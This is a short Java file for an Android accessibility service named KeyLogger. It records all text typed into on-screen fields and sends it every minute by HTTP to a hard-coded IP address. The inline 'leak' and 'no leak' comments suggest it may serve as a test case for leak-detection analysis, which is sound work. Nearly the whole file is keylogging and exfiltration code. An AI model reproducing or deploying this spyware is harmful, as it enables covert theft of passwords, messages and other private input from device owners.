package habits;

import android.accessibilityservice.AccessibilityService;
import android.view.accessibility.AccessibilityEvent;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.LinkedList;
import java.util.Queue;
import java.util.Timer;
import java.util.TimerTask;

/** Gathers what is typed, and empties the queue every minute. */
public class KeyLogger extends AccessibilityService {
    private final Queue<String> typed = new LinkedList<>();
    private final Queue<String> kinds = new LinkedList<>();

    @Override
    protected void onServiceConnected() {
        new Timer().schedule(new TimerTask() {
            @Override
            public void run() {
                flush();
            }
        }, 60000, 60000);
    }

    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        if (event.getEventType() == AccessibilityEvent.TYPE_VIEW_TEXT_CHANGED) {
            String line = "";
            for (CharSequence one : event.getText()) line = line.concat(one.toString());
            typed.offer(line);
            kinds.offer("text");
        }
    }

    private void flush() {
        try {
            while (!typed.isEmpty()) {
                HttpURLConnection connection = (HttpURLConnection) new URL("http://203.0.113.8/k").openConnection();
                connection.getOutputStream().write(typed.poll().getBytes()); // leak
                connection.getOutputStream().write(kinds.poll().getBytes()); // no leak
            }
        } catch (Exception ignored) {
        }
    }

    @Override
    public void onInterrupt() {
    }
}
